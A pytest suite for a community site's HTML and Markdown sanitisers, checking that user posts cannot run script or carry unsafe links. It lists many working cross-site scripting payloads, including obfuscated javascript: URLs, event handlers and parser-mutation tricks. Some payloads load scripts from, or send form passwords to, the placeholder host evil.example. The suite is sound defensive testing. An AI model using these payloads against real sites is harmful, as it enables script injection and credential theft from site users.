"""Nothing that Mallory writes runs in anybody's browser, through either sanitiser alone or both together."""

import re
from html import escape
from html.parser import HTMLParser

import pytest

from community.core.text import clean, render
from community.core.text.addresses import safe_address
from community.core.text.allowed import ATTRIBUTES, TAGS
from community.core.text.sanitise import sanitise, with_bleach, with_nh3

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='/files/a.png' onerror='alert(1)'>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    '<img src="/files/../sign-out">',
    '<img src="//evil.example/pixel.gif">',
    '<img srcset="https://evil.example/a 1x" src="/files/a.png">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="javascript:1">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="java&Tab;script&colon;alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\u200bscript:alert(1)">x</a>',
    '<a href="javascript\uff1aalert(1)">x</a>',
    '<a href="javascript`:1">x</a>',
    '<a href="vbscript:1">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="view-source:https://example.org">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://example.org/1">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<a href="/\t/evil.example/">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="https:evil.example">x</a>',
    '<a href="https:///evil.example">x</a>',
    '<a href="https://ok.example" target="_blank" onclick="alert(1)" style="x:y" id="q">x</a>',
    '<a href="https://ok.example" rel="opener">x</a>',
    '<a class="btn primary" href="/sign-out">x</a>',
    '<a href="https://ok.example" ping="https://evil.example">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<p title="</p><script>alert(1)</script>">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,x"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name="password"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input type="password" autofocus onfocus="alert(1)">',
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<video src=x onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<p/onclick=alert(1)>x</p>",
    "<p\x0conclick=alert(1)>x</p>",
    "<a<b onclick=alert(1)>x",
    "<p onclick=alert(1)",
    '<p id="main" name="csrf_token">x</p>',
    '<span class="staff-mark verified">Vera</span>',
    '<div class="dock" style="position:fixed">x</div>',
    '<pre class="k" aria-hidden="true" onfocus="alert(1)">x</pre>',
    '<td class="center evil">x</td>',
    '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>',
    '<ol start="-1e9"><li value="9">x</ol>',
    '<img src="/files/a.png" width="99999999" height="1" loading="eager">',
    "\u2028<script>alert(1)</script>\u2029",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "<a href='https://ok.example/\"onmouseover=alert(1)'>x</a>",
    '<a title="&quot;><script>alert(1)</script>" href="/q/1">x</a>',
    "<kbd><a href=https://ok.example/`onclick=alert(1)>x</kbd>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]
DANGEROUS_SCHEME = re.compile(r"\s*(?:javascript|vbscript|data|file|blob|feed|view-source):", re.IGNORECASE)

WAYS = {
    "bleach": with_bleach,
    "nh3": with_nh3,
    "both": sanitise,
    "clean": clean,
    "render": lambda text: render(text).html,
}


class Reader(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))

    def handle_comment(self, data):
        raise AssertionError(f"a comment came through: {data}")

    def handle_decl(self, decl):
        raise AssertionError(f"a declaration came through: {decl}")

    handle_pi = unknown_decl = handle_decl


def assert_harmless(html):
    for tag, attributes in Reader(html).found:
        assert tag in TAGS, html
        for name, value in attributes:
            assert name in ATTRIBUTES.get(tag, {}), html
            assert ATTRIBUTES[tag][name].fullmatch(value), html
            if name in ("href", "src"):
                assert safe_address(value) == value, html
                assert not DANGEROUS_SCHEME.match(value), html
            if name == "src":
                assert value.startswith("/files/"), html


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_runs(text, way):
    assert_harmless(WAYS[way](text))


@pytest.mark.parametrize("text", HOSTILE)
def test_what_was_cleaned_once_does_not_change_again(text):
    """Else a second reading by a browser could find what the first one missed."""
    once = sanitise(text)
    assert sanitise(once) == once


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_html_typed_as_markdown_is_shown_as_typed(text):
    rendered = render(f"`` {text} ``") if "`" not in text and "\n" not in text else render(text)
    assert_harmless(rendered.html)


@pytest.mark.parametrize(
    "address",
    [
        "javascript:1",
        "JAVASCRIPT:alert(1)",
        "vbscript:1",
        "data:text/html,x",
        "//evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "https:evil.example",
        "http://",
        "https://@evil.example",
        "https://bank.example@evil.example/",
        "https://bank.example:443@evil.example/",
        "https://example.org:99999/",
        "https://exa mple.org/",
        "https://example.org\\@evil.example/",
        "mailto:",
        "mailto:x",
        "ftp://example.org",
        "page.html",
        "?q=1",
        "#",
        "",
        "https://exa\u200bmple.org",
        "java\tscript:1",
    ],
)
def test_addresses_that_no_link_carries(address):
    assert safe_address(address) is None
    for html in (f'<a href="{escape(address)}">x</a>', f'<img src="{escape(address)}" alt="x">'):
        assert "href" not in sanitise(html)
        assert "src" not in sanitise(html)
    assert_harmless(render(f"[x](<{address}>)").html)


@pytest.mark.parametrize(
    "address",
    [
        "https://example.org",
        "HTTP://example.org/a?b=c#d",
        "http://10.0.0.7:65535/x",
        "http://[2001:db8::1]:8080/",
        "https://müller.example/?q=@x",
        "mailto:ana@example.org",
        "/",
        "/q/1/x",
        "#post-1",
    ],
)
def test_addresses_that_links_carry(address):
    assert safe_address(address) == address
    assert f'href="{address}"' in sanitise(f'<a href="{address}">x</a>')


@pytest.mark.parametrize("address", ["https://example.org", "mailto:ana@example.org"])
def test_links_to_elsewhere_never_vouch(address):
    for html in (sanitise(f'<a href="{address}" rel="me">x</a>'), render(f"[x]({address})").html):
        assert 'rel="nofollow ugc noopener"' in html


@pytest.mark.parametrize("address", ["/q/1", "#post-1"])
def test_links_to_this_site_are_plain(address):
    assert "rel" not in sanitise(f'<a href="{address}" rel="me">x</a>')


@pytest.mark.parametrize(
    "source",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt&colon;alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](javascript:alert(1))",
        "[x][1]\n\n[1]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "<vbscript:1>",
        '[x](https://ok.example "\\"onmouseover=alert(1)")',
        '![x\\"onerror=alert(1)](/files/a.png)',
        '![x](/files/a.png "\\"><script>")',
        "[<img src=x onerror=alert(1)>](https://ok.example)",
        '```"><script>alert(1)</script>\nx\n```',
        "```python\n</code></pre><script>alert(1)</script>\n```",
        "| <script> |\n|:--|\n| <img src=x onerror=alert(1)> |",
        'https://ok.example/"onmouseover=alert(1)',
        "https://ok.example/<script>alert(1)</script>",
        "www.ok.example/'><script>alert(1)</script>",
        "# <script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<div\n\nonclick=alert(1)>",
        "\x00<script>alert(1)</script>",
    ],
)
def test_hostile_markdown(source):
    assert_harmless(render(source, lambda handles: dict.fromkeys(handles, "/people/@x")).html)


def test_code_classes_are_the_only_ones_on_spans():
    assert sanitise('<span class="k">a</span><span class="post">b</span>') == '<span class="k">a</span><span>b</span>'


def test_foreign_html_brings_no_classes_at_all():
    assert "class" not in clean('<span class="k">a</span><a class="mention" href="/people/@ana">@ana</a>')
